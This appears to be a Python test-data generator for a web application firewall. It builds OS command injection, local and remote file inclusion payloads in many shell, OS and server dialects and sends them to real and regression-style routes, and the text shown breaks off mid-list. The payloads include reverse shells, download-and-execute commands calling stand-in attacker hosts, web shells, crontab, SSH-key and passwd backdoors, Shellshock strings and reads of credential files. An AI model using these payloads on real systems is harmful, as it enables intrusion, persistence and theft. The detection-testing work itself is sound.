"""Blind set "hundredthirtythird": OS command injection, local file inclusion / path traversal and remote file
inclusion written in every dialect that speaks them, with benign requests that carry the same words innocently.

The angle: dialects. For each family the same attack is written for every shell, interpreter, operating system,
web server or URL parser that understands it, beyond the obvious one: bash, dash and BusyBox ash, zsh, fish,
csh/tcsh, ksh93/mksh, cmd.exe, COMMAND.COM, Windows PowerShell 5.1 and PowerShell 7 with each one's own
separators, quoting, substitution and expansion; Linux, macOS, FreeBSD, Solaris/AIX, Windows and container
paths; Apache, nginx, IIS, Tomcat and Node static servers with their own encodings of `../`; PHP 5/7/8 stream
wrappers; inet_aton's decimal, octal, hexadecimal and short IPv4 forms, IPv6 and UNC / WebDAV / SMB locations.
A comment above each list names the dialect and the target.

Families (the `sub` of each record; one per detection title):
  rce: unix-command-injection (; | || && ` $() newline), unix-shell-evasion (quotes, $IFS, globbing, brace
    expansion, variables), windows-cmd-injection, powershell, unix-command-names-with-paths, reverse-shells,
    shellshock, downloaders, file-write-via-shell, restricted-file-names-in-commands
  lfi: path-traversal, os-file-access, absolute-paths, null-byte-truncation, php-wrapper-lfi,
    log-poisoning-targets, restricted-file-extensions
  rfi: url-with-ip-address, url-with-trailing-question-mark, include-parameter-with-url, off-domain-reference,
    protocols

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names (foo, var, x, test, id, arg1), as a query string, form body, JSON body, XML body, a raw
form-typed body, or in User-Agent, Referer, a custom header or a cookie. Payloads written in their wire form
(percent-encoded traversal, %00, %3f) go unquoted where a server decodes them (query, form, path, cookie,
parameter name); literal NUL bytes go in JSON only; Shellshock goes in whole header values (User-Agent, Referer,
Cookie, a custom header) as a CGI would export them; backup and config file names are requested as URL paths;
`name=url` include parameters go as raw query strings and form bodies.

Authorship and independence: written for this repository from general knowledge of each attack family, of each
shell's, interpreter's and server's grammar, and the detection titles alone; no WAF rule, engine source, ruleset
regression test or public payload list was read. Measured once on unchanged code; deterministic (no clock, no
randomness).
"""

from __future__ import annotations

import base64
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .blind_placements import FORM, BlindSet, Cycles, Put, Record, request
from .family_gen import _get
from .records import print_records

NAME = "hundredthirtythird"


def _ps_enc(script: str) -> str:
    """PowerShell's -EncodedCommand: Base64 of the UTF-16LE script."""
    return base64.b64encode(script.encode("utf-16-le")).decode()


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


# ----------------------------------------------------------------------------------------------------------------
# Payloads. An entry is a payload string, or (payload, real placement, rs placement) when the payload only works
# in one kind of place.
Entry = str | tuple[str, str, str]
ATTACKER_IP = "203.0.113.7"
LHOST = "198.51.100.23"

# --- rce: unix-command-injection ---------------------------------------------------------------------------------
# bash 4/5 (/bin/sh of RHEL, Fedora, Arch) behind system() / popen(): every separator, bash's |& included
CMDI_BASH: list[Entry] = [
    "; id",
    "| id",
    "|| id",
    "&& id",
    "`id`",
    "$(id)",
    "\nid\n",
    "x |& id",
]
# dash 0.5 (Debian / Ubuntu /bin/sh) and BusyBox ash (Alpine, OpenWrt): POSIX separators, CR LF from a form field
CMDI_DASH: list[Entry] = [
    "a;id;",
    "\";id;\"",
    "8.8.8.8\n/bin/busybox id",
    "x\r\nuname -a\r\n",
]
# zsh 5 (macOS login shell since Catalina): =( ) process substitution, &| disown
CMDI_ZSH: list[Entry] = [
    "; cat =(id)",
    "; id &|",
]
# fish 3: `; and` / `; or` chaining, ( ) command substitution
CMDI_FISH: list[Entry] = [
    "; and id",
    "; or id",
    "; echo (id)",
]
# csh / tcsh (FreeBSD root shell before 14, Solaris): backquotes only, >& redirection
CMDI_CSH: list[Entry] = [
    "; set u=`whoami`; echo $u",
    "; id >& /dev/stdout",
]
# ksh93 / mksh (AIX, Solaris, Android /system/bin/sh): ${ cmd; } without subshell, |& coprocess
CMDI_KSH: list[Entry] = [
    "; ${ id; }",
    "; id |&",
]

# --- rce: unix-shell-evasion -----------------------------------------------------------------------------------
# bash: brace expansion, ANSI-C quoting, substring expansion, here-strings
EVADE_BASH: list[Entry] = [
    ";{cat,/etc/passwd}",
    ";cat${IFS}/etc/passwd",
    ";c'a't /e't'c/pa's'swd",
    ";$'\\x63\\x61\\x74' /etc/passwd",
    ";cat ${HOME:0:1}etc${HOME:0:1}passwd",
    ";rev<<<'dwssap/cte/ tac'|bash",
    ";echo${IFS}aWQ=|base64${IFS}-d|bash",
]
# dash / BusyBox ash: no braces or $'..', so bare $IFS, empty quotes, backslashes, globs and printf octal
EVADE_DASH: list[Entry] = [
    ";cat$IFS/etc/passwd",
    ";ca\\t /et\\c/pa\\sswd",
    ";/???/c?t /???/p?ss??",
    ";cat /etc/pass[w]d",
    ";$(printf '\\151\\144')",
]
# zsh: extended-glob alternation, glob qualifiers, parameter-expansion flags
EVADE_ZSH: list[Entry] = [
    ";cat /etc/pass(w|x)d",
    ";cat /e*/passw*(.)",
    ";${(L):-ID}",
]
# fish 3: variables as commands, `source` from a pipe
EVADE_FISH: list[Entry] = [
    "; set c cat; $c /etc/passwd",
    "; echo id | source",
]
# tcsh and ksh93: set/eval, typeset case conversion
EVADE_CSH_KSH: list[Entry] = [
    "; set c=ca; eval ${c}t /etc/passwd",
    ";typeset -l c=ID;$c",
]

# --- rce: windows-cmd-injection ----------------------------------------------------------------------------------
# cmd.exe (Windows 10/11, Server 2016-2022): & && | || separators, carets, empty quotes, %VAR:~% substrings,
# !delayed! expansion, for /f
WIN_CMD: list[Entry] = [
    "& whoami",
    "&& whoami /priv",
    "| ver",
    "|| ipconfig /all",
    "\r\nnet user\r\n",
    "\" & whoami & \"",
    "& w^h^o^a^m^i",
    "& who\"\"ami",
    "& %COMSPEC:~-7,3% /c hostname",
    "& cmd /v:on /c \"set a=who&&set b=ami&&call !a!!b!\"",
    "& for /f %i in ('whoami') do nslookup %i.dns.attacker.example",
    "& ping -n 11 127.0.0.1",
    "& wmic process call create \"calc.exe\"",
    "& reg query \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\"",
]
# COMMAND.COM (Windows 9x, DOS-era appliances): only | and its own interpreter
WIN_COMMAND_COM: list[Entry] = [
    "| command /c ver",
]

# --- rce: powershell ---------------------------------------------------------------------------------------------
# Windows PowerShell 5.1 (powershell.exe): ; separator, & and . call operators, Invoke-Expression, .NET types,
# WMI cmdlets (gone in 7), backtick escapes, -EncodedCommand
PS5: list[Entry] = [
    "; Invoke-Expression 'whoami'",
    "; &('who'+'ami')",
    "; .('i'+'ex') 'hostname'",
    "; iex (-join [char[]](119,104,111,97,109,105))",
    "; [Diagnostics.Process]::Start('cmd.exe','/c whoami')",
    "; Get-WmiObject Win32_OperatingSystem | Select-Object Caption",
    "; Inv`oke-Ex`pression 'whoami'",
    "\"; $(Get-ChildItem Env:) #",
    "& powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc " + _ps_enc("whoami"),
    "; $ExecutionContext.InvokeCommand.InvokeScript('whoami')",
]
# PowerShell 7 (pwsh on Windows, Linux, macOS): && and || pipeline chains, Linux natives, script blocks
PS7: list[Entry] = [
    "&& Get-Process",
    "|| Get-ChildItem Env:",
    "; pwsh -c 'Get-Content /etc/passwd'",
    "; [ScriptBlock]::Create('id').Invoke()",
    "; Get-CimInstance Win32_Process | ? Name -eq lsass",
    "; icm {whoami}",
]

# --- rce: unix-command-names-with-paths --------------------------------------------------------------------------
# Linux (glibc distributions): the usual recon commands by absolute path
PATH_LINUX: list[Entry] = [
    "; /usr/bin/id",
    "| /bin/cat /etc/passwd",
    "$(/usr/bin/whoami)",
    "; /usr/bin/python3 -c 'import os;os.system(\"id\")'",
    "`/bin/uname -a`",
]
# BusyBox (Alpine, distroless :debug images, OpenWrt): the multi-call binary by path
PATH_BUSYBOX: list[Entry] = [
    "; /bin/busybox id",
    "; /busybox/sh -c id",
    "; /bin/busybox telnetd -l /bin/sh -p 9999",
]
# macOS: its own tools under /usr/bin and /usr/sbin
PATH_MACOS: list[Entry] = [
    "; /usr/bin/osascript -e 'do shell script \"id\"'",
    "; /usr/bin/dscl . -list /Users",
    "; /usr/sbin/system_profiler SPSoftwareDataType",
]
# FreeBSD ports, Solaris XPG4
PATH_UNIX: list[Entry] = [
    "; /usr/local/bin/bash -c id",
    "; /usr/xpg4/bin/id -a",
]
# containers and Kubernetes nodes: escape and credential commands by path
PATH_CONTAINER: list[Entry] = [
    "; /usr/bin/nsenter -t 1 -m -u -i -n /bin/sh",
    "; /usr/local/bin/kubectl get secrets -A",
    "; /usr/bin/docker -H unix:///var/run/docker.sock ps",
]

# --- rce: reverse-shells -----------------------------------------------------------------------------------------
# bash /dev/tcp, ksh93 /dev/tcp, zsh ztcp module
REV_SHELLS: list[Entry] = [
    f"; bash -i >& /dev/tcp/{LHOST}/4444 0>&1",
    f"; bash -c 'exec bash -i &>/dev/tcp/{LHOST}/4444 <&1'",
    f"; 0<&196;exec 196<>/dev/tcp/{LHOST}/4444; sh <&196 >&196 2>&196",
    f"; ksh -c 'ksh -i > /dev/tcp/{LHOST}/4444 2>&1 0>&1'",
    f"; zsh -c 'zmodload zsh/net/tcp && ztcp {LHOST} 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
]
# netcat flavours: OpenBSD nc (no -e, so a fifo), traditional nc -e / -c, Nmap ncat, BusyBox nc
REV_NC: list[Entry] = [
    f"; rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {LHOST} 4444 >/tmp/f",
    f"; nc -e /bin/sh {LHOST} 4444",
    f"; ncat {LHOST} 4444 -e /bin/bash",
    f"; busybox nc {LHOST} 4444 -e sh",
]
# interpreters: Python 3, Perl 5, Ruby, PHP CLI, gawk /inet, Node.js
REV_LANG: list[Entry] = [
    f"; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"{LHOST}\",4444));"
    "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'",
    f"; perl -e 'use Socket;$i=\"{LHOST}\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");"
    "open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'",
    f"; ruby -rsocket -e'f=TCPSocket.open(\"{LHOST}\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
    f"; php -r '$sock=fsockopen(\"{LHOST}\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    f"; awk 'BEGIN{{s=\"/inet/tcp/0/{LHOST}/4444\";while(1){{printf \"> \" |& s;s |& getline c;"
    "if(c){while((c |& getline)>0)print $0 |& s;close(c)}}}'",
    f"; node -e 'sh=require(\"child_process\").spawn(\"/bin/sh\");c=require(\"net\").connect(4444,\"{LHOST}\","
    "()=>{c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c)})'",
]
# socat, OpenSSL s_client
REV_TOOLS: list[Entry] = [
    f"; socat tcp-connect:{LHOST}:4444 exec:'bash -li',pty,stderr,setsid,sigint,sane",
    f"; mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect {LHOST}:4444 > /tmp/s",
]
# PowerShell 5.1 / 7: a TCPClient read-eval loop
REV_PS: list[Entry] = [
    f"; $c=New-Object Net.Sockets.TCPClient('{LHOST}',4444);$s=$c.GetStream();[byte[]]$b=0..65535|%{{0}};"
    "while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);"
    "$r=(iex $d 2>&1|Out-String);$t=([text.encoding]::ASCII).GetBytes($r);$s.Write($t,0,$t.Length)}",
]

# --- rce: shellshock ---------------------------------------------------------------------------------------------
# GNU bash before 4.3 patch 25-27 reached through CGI (Apache mod_cgi, lighttpd), environment from headers:
# CVE-2014-6271 and the follow-ups 6277, 6278 and 7169
SHELLSHOCK: list[Entry] = [
    "() { :; }; echo; /usr/bin/id",
    "() { :;}; /bin/bash -c 'cat /etc/passwd'",
    "() { ignored; }; echo Content-Type: text/plain; echo; /bin/cat /etc/passwd",
    "() { _; } >_[$($())] { echo; id; }",
    "() { x() { _; }; x() { _; } <<a; }",
    "() { (a)=>\\' /bin/id",
    "() { :; }; /bin/sleep 20",
    f"() {{ :; }}; ping -c 3 {LHOST}",
    f"() {{ :; }}; /usr/bin/wget http://{ATTACKER_IP}/s -O /tmp/s",
    "() { :;}; echo; echo vulnerable",
    f"() {{ :;}}; exec 5<>/dev/tcp/{LHOST}/4444;cat <&5|while read l;do $l 2>&5 >&5;done",
    "() { :; }; /bin/mail -s x attacker@attacker.example < /etc/passwd",
]

# --- rce: downloaders --------------------------------------------------------------------------------------------
# curl / GNU wget piped into sh, bash and fish; BusyBox wget and tftp (Mirai-style IoT droppers);
# FreeBSD fetch; OpenBSD ftp; bash's own /dev/tcp
DL_UNIX: list[Entry] = [
    f"; curl -s http://{ATTACKER_IP}/x.sh | sh",
    "$(curl -fsSL https://attacker.example/i.sh|bash)",
    f"; wget -qO- http://{ATTACKER_IP}/x.sh | sh",
    f"; cd /tmp || cd /var/run; busybox wget http://{ATTACKER_IP}/mips -O- > m; chmod 777 m; ./m",
    f"; cd /tmp; tftp -g -r x86 {ATTACKER_IP}; chmod +x x86; ./x86",
    f"; fetch -o - http://{ATTACKER_IP}/x.sh | sh",
    f"; ftp -o /tmp/x http://{ATTACKER_IP}/x && sh /tmp/x",
    "; curl -sL https://attacker.example/x.fish | source",
    f"; exec 3<>/dev/tcp/{ATTACKER_IP}/80; echo -e 'GET /x.sh HTTP/1.0\\r\\n' >&3; tail -n +6 <&3 | sh",
]
# interpreters as downloaders: Python 3 urllib, Perl LWP
DL_LANG: list[Entry] = [
    f"; python3 -c \"import urllib.request as u;exec(u.urlopen('http://{ATTACKER_IP}/p.py').read())\"",
    f"; perl -MLWP::Simple -e 'getstore(\"http://{ATTACKER_IP}/x\",\"/tmp/x\")'",
]
# Windows: certutil, bitsadmin, mshta, regsvr32 (squiblydoo), PowerShell DownloadString and iwr
DL_WIN: list[Entry] = [
    f"& certutil -urlcache -split -f http://{ATTACKER_IP}/p.exe %TEMP%\\p.exe & %TEMP%\\p.exe",
    f"& bitsadmin /transfer j /download /priority high http://{ATTACKER_IP}/p.exe C:\\Users\\Public\\p.exe",
    f"& mshta http://{ATTACKER_IP}/x.hta",
    f"& regsvr32 /s /n /u /i:http://{ATTACKER_IP}/x.sct scrobj.dll",
    f"; IEX(New-Object Net.WebClient).DownloadString('http://{ATTACKER_IP}/a.ps1')",
    f"; iwr http://{ATTACKER_IP}/a.ps1 -UseBasicParsing | iex",
]

# --- rce: file-write-via-shell -----------------------------------------------------------------------------------
# POSIX sh / bash: echo, printf, tee, here-documents into the web root, cron, authorized_keys, passwd, profile.d
WRITE_SH: list[Entry] = [
    "; echo '<?php system($_GET[\"c\"]); ?>' > /var/www/html/s.php",
    "; echo " + _b64("<?php system($_GET[0]);?>") + " | base64 -d > /var/www/html/x.php",
    "; printf '%s' '<?=`$_GET[0]`?>' > shell.php",
    "; id | tee /var/www/html/o.txt",
    "; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHb7 attacker' >> ~/.ssh/authorized_keys",
    f"; echo '* * * * * root curl -s http://{ATTACKER_IP}/c|sh' >> /etc/crontab",
    "; echo 'toor::0:0::/root:/bin/sh' >> /etc/passwd",
    "; cat > /tmp/x.sh <<'EOF'\nid\nEOF\n",
    "; sed -i 's/^root:x:/root::/' /etc/passwd",
]
# the shells' own start-up files: zsh, fish; a container's core_pattern
WRITE_RC: list[Entry] = [
    f"; print 'curl -s {ATTACKER_IP}/z|sh' >> ~/.zshrc",
    "; echo 'id' > ~/.config/fish/conf.d/x.fish",
    "; echo '|/tmp/x.sh' > /proc/sys/kernel/core_pattern",
]
# cmd.exe (caret-escaped < >) and PowerShell: web shells in the IIS root, hosts, authorized_keys
WRITE_WIN: list[Entry] = [
    "& echo ^<%@ Page Language=\"C#\" %^> > C:\\inetpub\\wwwroot\\s.aspx",
    "; Set-Content -Path C:\\inetpub\\wwwroot\\s.aspx -Value '<%@ Page Language=\"Jscript\"%>"
    "<%eval(Request.Item[\"c\"],\"unsafe\");%>'",
    "; 'ssh-rsa AAAAB3NzaC1yc2E attacker' | Out-File -Append $env:USERPROFILE\\.ssh\\authorized_keys",
    "; Add-Content C:\\Windows\\System32\\drivers\\etc\\hosts '203.0.113.7 update.microsoft.com'",
]

# --- rce: restricted-file-names-in-commands ----------------------------------------------------------------------
# Linux: shadow, sudoers, keys, histories, /proc environ, with other readers (more, less, tac, strings)
READ_LINUX: list[Entry] = [
    "; cat /etc/shadow",
    "| more /etc/passwd",
    "; less /etc/sudoers",
    "; cat /root/.ssh/id_rsa",
    "; tac ~/.bash_history",
    "; strings /proc/1/environ",
    "; cat /home/*/.ssh/authorized_keys",
]
# BSD, AIX, macOS account databases
READ_UNIX: list[Entry] = [
    "; nl /etc/master.passwd",
    "; cat /etc/security/passwd",
    "; cat /private/etc/master.passwd",
    "; plutil -p /var/db/dslocal/nodes/Default/users/root.plist",
]
# containers, clouds, application secrets
READ_APP: list[Entry] = [
    "; cat /var/run/secrets/kubernetes.io/serviceaccount/token",
    "; cat ~/.aws/credentials",
    "; cat /var/www/html/wp-config.php",
]
# cmd.exe and PowerShell: SAM, web.config, win.ini, hosts
READ_WIN: list[Entry] = [
    "& type C:\\Windows\\System32\\config\\SAM",
    "& type C:\\inetpub\\wwwroot\\web.config",
    "& more C:\\Windows\\win.ini",
    "; Get-Content C:\\Windows\\System32\\drivers\\etc\\hosts",
]

# --- lfi: path-traversal -----------------------------------------------------------------------------------------
# as typed: Unix ../, Windows ..\, mixed, the filters that strip ../ once, Tomcat ;/ path parameters, the nginx
# alias off-by-slash, NFKC-normalising apps (Python, Java) fed fullwidth dots and solidus
TRAV_TYPED: list[Entry] = [
    "../../../../etc/passwd",
    "..\\..\\..\\..\\windows\\win.ini",
    "....//....//....//etc/passwd",
    "..././..././..././etc/passwd",
    "..\\/..\\/..\\/etc/passwd",
    "/var/www/images/../../../etc/passwd",
    "..//..//..//..//etc/passwd",
    "..;/..;/..;/WEB-INF/web.xml",
    "/static../app/settings.py",
    "..\\..\\..\\inetpub\\wwwroot\\web.config",
    "\uff0e\uff0e\uff0f\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fetc\uff0fpasswd",
    "..\\..\\..\\..\\..\\..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts",
]
# wire form (percent-encoded as sent): single and double encoding, Apache 2.4.49/2.4.50 (CVE-2021-41773 and
# -42013), overlong UTF-8 (IIS 4/5 Unicode bug, old Tomcat), IIS %u, fullwidth solidus in UTF-8
TRAV_WIRE: list[Entry] = [
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "..%5c..%5c..%5cwindows%5cwin.ini",
    "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..%252f..%252f..%252fetc%252fpasswd",
    "..%255c..%255c..%255cwindows%255cwin.ini",
    "%2e%2e%5c%2e%2e%5c%2e%2e%5cboot.ini",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
    "/icons/.%%32%65/.%%32%65/.%%32%65/.%%32%65/etc/passwd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
    "/scripts/..%c1%9c../winnt/system32/cmd.exe?/c+dir",
    "%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/etc/passwd",
    "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd",
    "..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd",
]
# JSON string escapes decoded by the parser (Jackson, Express body-parser, System.Text.Json)
TRAV_JSON: list[Entry] = [
    ('{"file":"..\\u002f..\\u002f..\\u002f..\\u002fetc\\u002fpasswd"}', "json-body", "rs-json-body"),
    ('{"path":"\\u002e\\u002e\\u005c\\u002e\\u002e\\u005cwindows\\u005cwin.ini"}', "json-body", "rs-json-body"),
]

# --- lfi: os-file-access -----------------------------------------------------------------------------------------
# Linux: shadow, /proc/self and /proc/1, keys, service configs
OSF_LINUX: list[Entry] = [
    "../../../../../../etc/shadow",
    "../../../../proc/self/environ",
    "../../../../proc/self/cmdline",
    "../../../../proc/self/cwd/.env",
    "../../../home/deploy/.ssh/id_rsa",
    "../../../root/.ssh/id_ed25519",
    "../../../../etc/mysql/my.cnf",
    "../../../../home/node/.npmrc",
]
# web application files: Apache .htaccess / .htpasswd, git metadata, dotenv, Java WEB-INF, Spring, Rails
OSF_APP: list[Entry] = [
    ".htaccess",
    "../.htpasswd",
    ".git/HEAD",
    "../../.git/config",
    "../.env.production",
    "WEB-INF/web.xml",
    "../../WEB-INF/classes/application.properties",
    "../../config/database.yml",
]
# Windows: win.ini, boot.ini (XP / 2003), hosts, web.config, unattended install answers, repair SAM
OSF_WIN: list[Entry] = [
    "..\\..\\..\\..\\boot.ini",
    "..\\web.config",
    "..\\..\\..\\Windows\\Panther\\Unattend.xml",
    "..\\..\\..\\Windows\\repair\\SAM",
]
# macOS, FreeBSD, containers
OSF_OTHER: list[Entry] = [
    "../../../../Users/admin/.zsh_history",
    "../../../../private/etc/master.passwd",
    "../../../../etc/master.passwd",
    "../../../../var/run/secrets/kubernetes.io/serviceaccount/token",
    "../../../.dockerenv",
]

# --- lfi: absolute-paths -----------------------------------------------------------------------------------------
# Linux and /proc
ABS_LINUX: list[Entry] = [
    "/etc/passwd",
    "/etc/shadow",
    "/proc/self/environ",
    "/proc/self/mounts",
    "/proc/version",
    "/etc/issue",
    "/root/.bash_history",
    "/etc/nginx/nginx.conf",
    "/proc/1/root/etc/shadow",
    "file:///etc/passwd",
]
# Windows: drive letters both slashes, Win32 device and extended paths, environment variables, file URLs
ABS_WIN: list[Entry] = [
    "C:\\Windows\\win.ini",
    "C:/Windows/System32/drivers/etc/hosts",
    "c:\\boot.ini",
    "C:\\inetpub\\wwwroot\\web.config",
    "\\\\?\\C:\\Windows\\win.ini",
    "\\\\.\\C:\\Windows\\System32\\config\\SAM",
    "%WINDIR%\\win.ini",
    "file:///C:/Windows/win.ini",
    "C:\\xampp\\php\\php.ini",
]
# macOS, FreeBSD, Docker and Kubernetes, official images
ABS_OTHER: list[Entry] = [
    "/private/etc/passwd",
    "/Library/Preferences/SystemConfiguration/com.apple.airport.preferences.plist",
    "/etc/master.passwd",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "/run/secrets/db_password",
    "/usr/local/etc/php/php.ini",
    "/opt/lampp/etc/httpd.conf",
]

# --- lfi: null-byte-truncation -----------------------------------------------------------------------------------
# wire form: PHP < 5.3.4 %00, double-encoded %2500, Java modified UTF-8 NUL (%c0%80), IIS %u0000
NUL_WIRE: list[Entry] = [
    "../../../../etc/passwd%00",
    "../../../../etc/passwd%00.php",
    "../../../../etc/passwd%00.jpg",
    "..%2f..%2f..%2fetc%2fpasswd%00.html",
    "/etc/passwd%00",
    "....//....//etc/passwd%00.inc",
    "..\\..\\..\\boot.ini%00.txt",
    "C:\\Windows\\win.ini%00.png",
    "../../../../etc/passwd%2500.php",
    "../../../../etc/passwd%c0%80.php",
    "../../../etc/passwd%u0000.php",
]
# a real NUL inside a JSON string (Node fs before 8, Go, Java before 7u40, PHP file_exists)
NUL_JSON: list[Entry] = [
    ("../../../../etc/passwd\x00.php", "json", "rs-json"),
    ("..\\..\\windows\\win.ini\x00.txt", "json", "rs-json"),
]
# PHP 5.2 path truncation (MAXPATHLEN 4096), Windows trailing dots and spaces, NTFS ::$DATA streams (IIS)
TRUNCATION: list[Entry] = [
    "../../../../etc/passwd" + "/." * 2040,
    "../../../../etc/passwd" + "/" * 4090,
    "..\\..\\..\\boot.ini" + "." * 240,
    "..\\..\\..\\windows\\win.ini    ",
    "index.php::$DATA",
    "web.config::$DATA",
]

# --- lfi: php-wrapper-lfi ----------------------------------------------------------------------------------------
# PHP 5.3-8.3 php://filter: base64, rot13, iconv, zlib, quoted-printable, dechunk (8.x oracle), write, chains
PHP_FILTER: list[Entry] = [
    "php://filter/convert.base64-encode/resource=index.php",
    "php://filter/read=string.rot13/resource=config.php",
    "php://filter/convert.iconv.utf-8.utf-16le/resource=/etc/passwd",
    "php://filter/zlib.deflate/convert.base64-encode/resource=../wp-config.php",
    "pHp://FilTer/convert.base64-encode/resource=index.php",
    "php://filter/resource=/etc/passwd",
    "php://filter/string.toupper|string.rot13/resource=flag.php",
    "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|"
    "convert.base64-decode/resource=php://temp",
    "php://filter/read=convert.quoted-printable-encode/resource=../config.inc.php",
    "php://filter/write=convert.base64-decode/resource=shell.php",
    "php://filter/dechunk/resource=/etc/passwd",
    "php://filter/convert.iconv.UCS-2LE.UCS-2BE/resource=index.php",
]
# other PHP streams: php://input and fd, phar (deserialization before 8.0), zip, compress.*, glob, rar, ssh2
PHP_STREAMS: list[Entry] = [
    "php://input",
    "php://fd/3",
    "phar:///var/www/uploads/avatar.jpg/x.php",
    "phar://./uploads/evil.gif",
    "zip://uploads/a.zip%23shell.php",
    "compress.zlib:///etc/passwd",
    "compress.bzip2://../../../../etc/passwd",
    "glob:///var/www/html/*.php",
    "rar://uploads/x.rar%23s.php",
    "ssh2.exec://root:toor@127.0.0.1:22/id",
]

# --- lfi: log-poisoning-targets ----------------------------------------------------------------------------------
# Debian/Ubuntu Apache and nginx, RHEL httpd, the official httpd image, Homebrew, XAMPP (Linux and Windows),
# macOS, FreeBSD, IIS 6 and 7+, nginx for Windows
LOG_WEB: list[Entry] = [
    "../../../../var/log/apache2/access.log",
    "../../../../var/log/apache2/error.log",
    "../../../../var/log/httpd/access_log",
    "../../../../var/log/nginx/access.log",
    "/var/log/nginx/error.log",
    "/usr/local/apache2/logs/access_log",
    "../../../../usr/local/var/log/nginx/access.log",
    "/opt/lampp/logs/access_log",
    "C:\\xampp\\apache\\logs\\access.log",
    "/private/var/log/apache2/access_log",
    "/var/log/httpd-access.log",
    "C:\\WINDOWS\\system32\\LogFiles\\W3SVC1\\ex240501.log",
    "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex240501.log",
    "C:\\nginx\\logs\\access.log",
]
# other poisonable files: sshd (Debian auth.log, RHEL secure), vsftpd, mail spool, PHP sessions (Debian, RHEL,
# default /tmp), /proc/self/fd, Docker json-file logs
LOG_OTHER: list[Entry] = [
    "../../../../var/log/auth.log",
    "/var/log/secure",
    "../../../../var/log/vsftpd.log",
    "../../../../var/mail/www-data",
    "../../../../var/lib/php/sessions/sess_k9fh2r7d3cq1",
    "/var/lib/php/session/sess_k9fh2r7d3cq1",
    "/tmp/sess_k9fh2r7d3cq1",
    "../../../../proc/self/fd/2",
    "/var/lib/docker/containers/4f1c2b7e9a0d/4f1c2b7e9a0d-json.log",
]

# --- lfi: restricted-file-extensions (requested as URL paths) ---------------------------------------------------
# editor and deploy leftovers of PHP apps (WordPress, MediaWiki, phpMyAdmin): .bak .old ~ .swp .orig .save
EXT_PHP: list[Entry] = [
    "wp-config.php.bak",
    "config.php.old",
    "index.php~",
    "config.inc.php.swp",
    "LocalSettings.php.orig",
    "settings.php.save",
]
# IIS / ASP.NET / classic ASP: .config, .asa, .asax, .mdb, .udl
EXT_IIS: list[Entry] = [
    "web.config",
    "Web.config.bak",
    "global.asa",
    "Global.asax",
    "App_Data/users.mdb",
    "connection.udl",
]
# Java, Python and Node configs and dumps: .properties .old, .ini, .cfg, .conf, .cnf, .sql, .db, .sqlite, .key
EXT_DATA: list[Entry] = [
    "application.properties.old",
    "settings.ini",
    "credentials.cfg",
    "nginx.conf",
    "my.cnf",
    "database.sql",
    "backup/db_2024-05-01.sql",
    "data.sqlite",
    "site.db",
    "server.key",
]

# --- rfi: url-with-ip-address ------------------------------------------------------------------------------------
# PHP include/require (allow_url_include=On) of an IPv4 URL: the classic shells' names, ports, userinfo, case,
# a trailing dot
RFI_IP_V4: list[Entry] = [
    f"http://{ATTACKER_IP}/shell.txt",
    f"https://{LHOST}/r57.txt",
    f"http://{ATTACKER_IP}:8080/c99.php",
    f"ftp://{LHOST}/pub/wso.txt",
    f"//{ATTACKER_IP}/b374k.txt",
    f"http://user:pass@{ATTACKER_IP}/x.php",
    f"HTTP://{ATTACKER_IP}/INC.TXT",
    f"https://{ATTACKER_IP}/wp-content/uploads/r.php",
    f"http://{ATTACKER_IP}/~kit/inc.txt",
    f"https://{LHOST}:8443/s.php",
    f"http://{LHOST}/phpshell.txt",
    f"ftps://{ATTACKER_IP}/x.txt",
    "http://203.0.113.7./x.txt",
]
# inet_aton's other spellings of 203.0.113.7 and 198.51.100.23 (glibc, PHP, curl, Windows): decimal, hex,
# octal, three-part and two-part forms, zero-padded octets
RFI_IP_FORMS: list[Entry] = [
    "http://3405803783/x.txt",
    "http://0xcb007107/x.txt",
    "http://0313.0.0161.07/x.txt",
    "http://203.0.28935/x.txt",
    "http://203.28935/x.txt",
    "http://0xcb.0x0.0x71.0x7/x.txt",
    "http://3325256727/shell.txt",
    "http://198.051.100.023/shell.txt",
